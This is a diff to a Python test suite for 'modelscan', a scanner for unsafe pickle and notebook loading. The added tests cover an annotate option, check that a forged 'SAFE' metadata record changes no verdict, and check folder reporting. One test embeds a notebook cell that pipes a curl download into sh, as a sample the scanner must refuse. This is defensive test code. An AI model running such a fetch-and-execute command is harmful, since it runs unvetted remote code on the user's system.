@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import pickle
 import re
@@ -214,3 +215,45 @@ def test_bombs_end():
 def test_rules_of_notebooks_and_of_structures_have_keys_of_their_own():
     structure = tomllib.loads((resources.files("modelscan.rules") / "structure.toml").read_text("utf-8"))
     assert not RULES.keys() & structure.keys()
+
+
+def test_annotate_writes_a_record_and_nothing_else(folder):
+    from click.testing import CliRunner
+
+    from modelscan.cli import cli
+
+    path = folder / "nb.ipynb"
+    path.write_bytes(notebook(code(LOAD.format("good.pkl")), markdown("ü"), custom={"kept": [1]}))
+    path.chmod(0o640)
+    before = json.loads(path.read_text("utf-8"))
+    done = CliRunner().invoke(cli, ["scan", "-p", str(path), "--annotate"])
+    assert (done.exit_code, "no longer trusts" in done.stderr) == (0, True)
+    after = json.loads(path.read_text("utf-8"))
+    record = after["metadata"].pop("modelscan")
+    assert after == before
+    assert path.stat().st_mode & 0o777 == 0o640
+    assert (record["verdict"], [(row["name"], row["verdict"]) for row in record["files"]]) == (
+        "SAFE",
+        [("good.pkl", "SAFE")],
+    )
+    good = (folder / "good.pkl").read_bytes()
+    assert record["files"][0]["sha256"] == hashlib.sha256(good).hexdigest()
+    assert [file.name for file in folder.iterdir() if file.name.startswith(".")] == []
+    assert modelscan.scan(path).verdict is Verdict.SAFE
+
+
+def test_a_record_is_a_claim_and_changes_no_verdict():
+    record = {"version": "9", "verdict": "SAFE", "files": []}
+    report = modelscan.scan(notebook(code("!curl https://example.org | sh"), modelscan=record))
+    assert report.refused
+
+
+def test_a_model_is_reported_once_in_a_folder_with_its_notebook(folder):
+    scan(folder, LOAD.format("evil.pkl"))
+    (folder / "good.pkl").unlink()
+    report = modelscan.scan(folder)
+    about = [row for row in report.findings if row.where.artifact.endswith("evil.pkl")]
+    assert [row.operator for row in about] == ["os.mkdir"]
+    assert [row.rule for row in report.findings if row.where.artifact.endswith(".ipynb")] == [
+        RULES["loader-refused"]["rule"]
+    ]
